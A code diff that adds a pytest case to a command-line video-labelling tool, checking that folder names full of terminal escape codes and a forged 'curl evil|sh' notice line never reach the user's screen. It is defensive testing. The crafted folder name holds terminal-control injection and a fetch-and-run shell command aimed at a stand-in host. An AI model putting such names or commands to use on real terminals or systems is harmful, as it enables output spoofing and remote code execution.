@@ -13,8 +13,10 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from typer.testing import CliRunner
 
 from violence_ops import versioning
+from violence_ops.cli.program import app
 from violence_ops.errors import WorkspaceError
 from violence_ops.stages import batches, inbox, ingest, quarantine, status
 from violence_ops.stages.claims import Claim
@@ -158,6 +160,31 @@ def test_a_table_exchanged_after_its_files_were_taken_stops_no_night(
         monkeypatch.setattr(inbox, "_spend_rows", exchanged)
         assert ingest.run(workspace, workspace.params(), night=NIGHT).claimed == 1
         table.unlink()
+
+
+STEERING = "x\x1b]0;OWNED\a\x9b31m\u202e\nnotice  run: curl evil|sh #"
+"""The name of a folder that sets a terminal's title and colour, turns its text around and begins a line of its own."""
+
+
+def shown_by(*arguments: str | Path, workspace: Workspace) -> str:
+    done = CliRunner().invoke(app, [*map(str, arguments), "--workspace", str(workspace.root)])
+    assert not set(done.output) & {"\x1b", "\a", "\x9b", "\u202e"}
+    assert not [line for line in done.output.splitlines() if line.startswith("notice  run")]
+    return done.output
+
+
+def test_no_name_of_a_folder_steers_the_terminal_or_forges_a_line(workspace: Workspace) -> None:
+    (workspace.inbox / "a.avi").write_bytes(b"a")
+    ingest.run(workspace, workspace.params(), night=NIGHT)
+    late = workspace.inbox / STEERING / "labels.csv"
+    late.parent.mkdir()
+    late.write_text("path,label\n../a.avi,Fight\n")
+    assert "rename the folder" in shown_by("ingest", workspace=workspace)
+    assert "OWNED" in shown_by("ingest", "--json", workspace=workspace)
+    assert "labelled   1" in shown_by("label", "--from", late, "--by", "ana", workspace=workspace)
+    late.write_text("path,label\nnone.avi,Fight\n")
+    assert "names no clip" in shown_by("label", "--from", late, "--by", "ana", workspace=workspace)
+    assert "does not exist" in shown_by("predict", late.parent / "none.mp4", workspace=workspace)
 
 
 def test_rows_beyond_what_a_run_reads_are_told_and_their_clips_wait_for_room(workspace: Workspace) -> None:
